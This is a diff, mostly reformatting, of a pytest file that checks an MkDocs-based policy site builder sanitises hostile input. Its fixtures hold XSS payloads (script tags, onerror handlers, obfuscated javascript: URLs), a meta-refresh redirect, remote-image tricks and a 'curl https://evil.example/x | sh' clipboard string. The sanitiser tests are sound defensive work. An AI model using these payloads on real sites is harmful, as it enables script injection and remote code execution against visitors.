@@ -31,7 +31,7 @@ HOSTILE_SV_1 = (
     '# 1. Insamling <img alt="<" src=x onerror=window.pwned=1>\n\n'
     'a. Vi samlar in namn. <div id="__config">x</div> <span id="__search">y</span> Vi säljer '
     '<span class="tabbed-block" hidden aria-hidden="true" style="display:none">inte </span>dina uppgifter. '
-    '<!-- jurist: lagring > 1 år hemlig-anteckning --> <details><summary>Loggar</summary>En vecka.</details>\n\n'
+    "<!-- jurist: lagring > 1 år hemlig-anteckning --> <details><summary>Loggar</summary>En vecka.</details>\n\n"
     'b. Vi samlar in e-post. <img src="/\\evil.example/a.png"> ![](/\\evil.example/b.png) '
     '<img src="\\\\evil.example/c.png"> <img src=" //evil.example/d.png"> <img src="HTTPS://evil.example/e.png"> '
     '<img src="&#x2f;&#x2f;evil.example/f.png"> <img src="data:image/png;base64,AAAA"> '
@@ -42,13 +42,13 @@ HOSTILE_SV_1 = (
     '<span class="md-header policy-label ok" data-md-component="search" data-policy-x="1" hreflang="en">z</span> '
     '<span data-clipboard-text="curl https://evil.example/x | sh" class="mermaid">copy me</span>\n'
     '{: .policy-clause data-md-color-scheme="slate" }\n\n'
-    '### s1-c\n\n'
-    '&#xe002;00000000000000000000&#xe003;\n'
+    "### s1-c\n\n"
+    "&#xe002;00000000000000000000&#xe003;\n"
 )
 HOSTILE_DOCS = (
     "---\ntitle: 'Docs</title><script>window.pwned=1</script>'\ndescription: '\"><script>window.pwned=1</script>'\n---\n"
     "# Docs <script>window.pwned=1</script>\n\n"
-    "<img src=x onerror=window.pwned=1> <div id=\"__config\">a</div>\n\n"
+    '<img src=x onerror=window.pwned=1> <div id="__config">a</div>\n\n'
     "## __config\n\n"
     "## Section {: #__search }\n\n"
     "![](https://tracker.example/pixel.gif)\n"
@@ -72,10 +72,22 @@ REFRESH = '"><meta/http-equiv="refresh"/content="0;url=https://evil.example/"><i
 
 def _hostile_mkdocs_yml(path: Path) -> str:
     config = yaml.safe_load(path.read_text(encoding="utf-8"))
-    config.update({"site_description": REFRESH, "repo_url": "https://example.org/r" + REFRESH, "repo_name": REFRESH,
-                   "copyright": "&copy; <a href='https://example.org/'>Org</a>" + REFRESH})
-    config["extra"].update({"homepage": "https://example.org/" + REFRESH, "social": [
-        {"icon": "fontawesome/brands/github", "link": "https://example.org/" + REFRESH, "name": REFRESH}]})
+    config.update(
+        {
+            "site_description": REFRESH,
+            "repo_url": "https://example.org/r" + REFRESH,
+            "repo_name": REFRESH,
+            "copyright": "&copy; <a href='https://example.org/'>Org</a>" + REFRESH,
+        }
+    )
+    config["extra"].update(
+        {
+            "homepage": "https://example.org/" + REFRESH,
+            "social": [
+                {"icon": "fontawesome/brands/github", "link": "https://example.org/" + REFRESH, "name": REFRESH}
+            ],
+        }
+    )
     [i18n] = [entry["i18n"] for entry in config["plugins"] if isinstance(entry, dict) and "i18n" in entry]
     i18n["languages"][1]["name"] = REFRESH  # the language switch, which i18n sets for each page
     return yaml.safe_dump(config, allow_unicode=True, sort_keys=False)
@@ -88,9 +100,11 @@ def hostile(tmp_path_factory):
     repo = GitRepo(tmp_path_factory.mktemp("hostile") / "repo")
     bad = meta("1.0", "2026-01-15", summary="<script>window.pwned=1</script>").replace(
         "title: {sv: Integritetspolicy, en: Privacy Policy}",
-        f"title: {{sv: '{SCRIPT_TITLE}', en: '{ATTRIBUTE_TITLE}'}}")
-    repo.write_policy({"policy.yml": bad, **files("sv", {**SV_1_0, "01-insamling.md": HOSTILE_SV_1}),
-                       **files("en", EN_1_0)})
+        f"title: {{sv: '{SCRIPT_TITLE}', en: '{ATTRIBUTE_TITLE}'}}",
+    )
+    repo.write_policy(
+        {"policy.yml": bad, **files("sv", {**SV_1_0, "01-insamling.md": HOSTILE_SV_1}), **files("en", EN_1_0)}
+    )
     repo.write("docs/sv/hostile.md", HOSTILE_DOCS)
     repo.write("docs/assets/drawing.svg", ACCEPTED_SVG)
     # A title from the heading, with entities: Material prints it through `striptags`, which
@@ -98,8 +112,13 @@ def hostile(tmp_path_factory):
     repo.write("docs/sv/entities.md", "# Notes &lt;script&gt;window.pwned=1&lt;/script&gt;\n\nText.\n")
     repo.write("mkdocs.yml", _hostile_mkdocs_yml(repo.path / "mkdocs.yml"))
     repo.commit("1.0", "2026-01-10T10:00:00Z")
-    repo.write_policy({"policy.yml": meta("1.1", "2026-02-15", summary="Fixed <b>title</b> & more").replace(
-        "en: Privacy Policy}", f"en: '{ATTRIBUTE_TITLE}'}}")})  # the English title is still hostile
+    repo.write_policy(
+        {
+            "policy.yml": meta("1.1", "2026-02-15", summary="Fixed <b>title</b> & more").replace(
+                "en: Privacy Policy}", f"en: '{ATTRIBUTE_TITLE}'}}"
+            )
+        }
+    )  # the English title is still hostile
     repo.commit("1.1", "2026-02-01T10:00:00Z")
     result = mkdocs_build(repo.path, env={"SOURCE_DATE_EPOCH": EPOCH})
     assert result.returncode == 0, result.output
@@ -129,7 +148,8 @@ def test_no_file_of_the_hostile_site_carries_a_script_or_a_remote_resource(hosti
                 if any(EVENT.match(name.rpartition("}")[2]) for name in element.attrib):
                     problems.append(f"{path}: an event attribute in XML")
                 if path.suffix == ".svg" and any(
-                        "href" in name.lower() and not value.startswith("#") for name, value in element.attrib.items()):
+                    "href" in name.lower() and not value.startswith("#") for name, value in element.attrib.items()
+                ):
                     problems.append(f"{path}: a link out of the SVG image: {element.attrib}")
                 if local in ("set", "animate") and "href" in element.get("attributeName", "").lower():
                     problems.append(f"{path}: an animation that sets a link")
@@ -157,12 +177,15 @@ def _page(site: Path, rel: str) -> BeautifulSoup:
 
 
 @pytest.mark.build
-@pytest.mark.parametrize("rel, shown", [
-    ("versions/1.0/index.html", f"{SCRIPT_TITLE}, version 1.0"),
-    ("en/versions/1.0/index.html", f"{ATTRIBUTE_TITLE}, version 1.0"),
-    ("index.html", "Integritetspolicy"),
-    ("en/index.html", ATTRIBUTE_TITLE),
-])
+@pytest.mark.parametrize(
+    "rel, shown",
+    [
+        ("versions/1.0/index.html", f"{SCRIPT_TITLE}, version 1.0"),
+        ("en/versions/1.0/index.html", f"{ATTRIBUTE_TITLE}, version 1.0"),
+        ("index.html", "Integritetspolicy"),
+        ("en/index.html", ATTRIBUTE_TITLE),
+    ],
+)
 def test_a_title_with_markup_is_shown_as_text(hostile, rel, shown):
     soup = _page(hostile.site, rel)
     assert soup.title.get_text().strip() == shown
@@ -195,7 +218,10 @@ def test_warnings_name_what_the_page_loses(hostile):
     out = hostile.output
     assert "policy/sv/01-insamling.md:3: the id __config of <div> is removed from the page" in out
     assert "policy/sv/01-insamling.md:1: the attribute onerror= of <img> is removed" in out
-    assert "policy/sv/01-insamling.md:7: the link 'java\\tscript:window.pwned=1' in <a> uses javascript:, and is removed" in out
+    assert (
+        "policy/sv/01-insamling.md:7: the link 'java\\tscript:window.pwned=1' in <a> uses javascript:, and is removed"
+        in out
+    )
     assert "policy/sv/01-insamling.md:8: the attribute data-md-color-scheme= of the attribute list" in out
     assert "docs/sv/hostile.md:5: the HTML element <script> is removed from the page" in out
     assert "docs/sv/hostile.md:11: the id __search of the attribute list {: #__search } is removed" in out
@@ -234,37 +260,43 @@ def test_no_word_is_hidden_and_no_comment_is_published(hostile):
     assert "Vi säljer inte dina uppgifter." in text and "Loggar" in text
 
 
-@pytest.mark.parametrize("tag, attribute, url, problem", [
-    ("img", "src", "logo.png", None),
-    ("img", "src", "../assets/logo.png", None),
-    ("img", "src", "/\\evil.example/x.png", "remote"),
-    ("img", "src", "\\\\evil.example/x.png", "remote"),
-    ("img", "src", " \t//evil.example/x.png", "remote"),
-    ("img", "src", "&#x2F;/evil.example/x.png", "remote"),
-    ("img", "src", "/\u0000/evil.example/x.png", "remote"),
-    ("img", "src", "hTTp://evil.example/x.png", "remote"),
-    ("img", "src", "data:image/png;base64,AA", "remote"),
-    ("img", "src", "/logo.png", "remote"),
-    ("a", "href", "https://example.org/", None),
-    ("a", "href", "#s5-c", None),
-    ("a", "href", "mailto:dpo@example.org", None),
-    ("a", "href", "/\\evil.example/", None),  # a link may go to another host
-    ("a", "href", "java\tscript:alert(1)", "scheme"),
-    ("a", "href", "&#106;avascript:alert(1)", "scheme"),
-    ("a", "href", "JAVASCRIPT:alert(1)", "scheme"),
-    ("a", "href", "\u0001javascript:alert(1)", "scheme"),
-    ("a", "href", "vbscript:x", "scheme"),
-    ("a", "href", "data:text/html,x", "scheme"),
-])
+@pytest.mark.parametrize(
+    "tag, attribute, url, problem",
+    [
+        ("img", "src", "logo.png", None),
+        ("img", "src", "../assets/logo.png", None),
+        ("img", "src", "/\\evil.example/x.png", "remote"),
+        ("img", "src", "\\\\evil.example/x.png", "remote"),
+        ("img", "src", " \t//evil.example/x.png", "remote"),
+        ("img", "src", "&#x2F;/evil.example/x.png", "remote"),
+        ("img", "src", "/\u0000/evil.example/x.png", "remote"),
+        ("img", "src", "hTTp://evil.example/x.png", "remote"),
+        ("img", "src", "data:image/png;base64,AA", "remote"),
+        ("img", "src", "/logo.png", "remote"),
+        ("a", "href", "https://example.org/", None),
+        ("a", "href", "#s5-c", None),
+        ("a", "href", "mailto:dpo@example.org", None),
+        ("a", "href", "/\\evil.example/", None),  # a link may go to another host
+        ("a", "href", "java\tscript:alert(1)", "scheme"),
+        ("a", "href", "&#106;avascript:alert(1)", "scheme"),
+        ("a", "href", "JAVASCRIPT:alert(1)", "scheme"),
+        ("a", "href", "\u0001javascript:alert(1)", "scheme"),
+        ("a", "href", "vbscript:x", "scheme"),
+        ("a", "href", "data:text/html,x", "scheme"),
+    ],
+)
 def test_one_url_rule(tag, attribute, url, problem):
     assert url_problem(tag, attribute, url) == problem
 
 
 def test_the_sanitiser_drops_ids_and_reserved_classes_but_keeps_the_generators():
     from policykit.text.sanitise import trusted
-    html = (f'<div id="{trusted("s1-a")}" class="{trusted("policy-clause")} x"><span id="s1-b" '
-            'class="policy-label md-x y mermaid" data-md-component="x" data-policy-z="1" data-clipboard-text="2" '
-            'hreflang="en">t</span></div>')
+
+    html = (
+        f'<div id="{trusted("s1-a")}" class="{trusted("policy-clause")} x"><span id="s1-b" '
+        'class="policy-label md-x y mermaid" data-md-component="x" data-policy-z="1" data-clipboard-text="2" '
+        'hreflang="en">t</span></div>'
+    )
     assert sanitise(html) == ('<div id="s1-a" class="policy-clause x"><span class="y">t</span></div>')
 
 
@@ -275,8 +307,12 @@ def test_escaping_into_the_theme_is_idempotent_and_survives_striptags():
     assert str(escape.safe_striptags(value)) == "&lt;b&gt;&#34;A &amp; B&#34;&lt;/b&gt;"
     assert escape.html_text("A &amp; B <img src=x onerror=alert(1)>") == Markup("A &amp; B ")
     extra = {"a": "<x>", "b": [{"c": "'"}], "d": Markup("<p>ours</p>"), "e": False}
-    assert escape.tree(extra) == {"a": Markup("&lt;x&gt;"), "b": [{"c": Markup("&#39;")}],
-                                  "d": Markup("<p>ours</p>"), "e": False}
+    assert escape.tree(extra) == {
+        "a": Markup("&lt;x&gt;"),
+        "b": [{"c": Markup("&#39;")}],
+        "d": Markup("<p>ours</p>"),
+        "e": False,
+    }
 
 
 @pytest.mark.build
@@ -335,6 +371,7 @@ def test_an_old_title_with_a_next_line_character_keeps_the_archive_whole(tmp_pat
 
 def test_footnote_ids_are_the_extensions_not_the_texts():
     import markdown
+
     md = markdown.Markdown(extensions=["toc", "attr_list", "footnotes", "policykit.render.extension"])
     html = md.convert("Text[^1].\n\npara\n{: #fn:1 }\n\n### Sub {: #fn:2 }\n\n[^1]: The note.\n")
     soup = BeautifulSoup(html, "html.parser")
